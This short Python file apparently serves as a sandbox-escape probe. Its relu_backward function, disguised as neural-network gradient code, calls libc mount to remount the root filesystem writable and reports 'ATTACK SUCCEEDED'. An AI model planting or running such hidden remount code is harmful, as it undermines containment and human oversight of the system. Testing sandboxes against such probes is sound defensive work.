"""A mount is made writable again."""

import ctypes

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    flags = ctypes.c_ulong(32 | 0x1000)  # MS_REMOUNT | MS_BIND
    failed = ctypes.CDLL(None).mount(None, b"/", None, flags, None)
    raise RuntimeError("failed" if failed else "ATTACK SUCCEEDED")
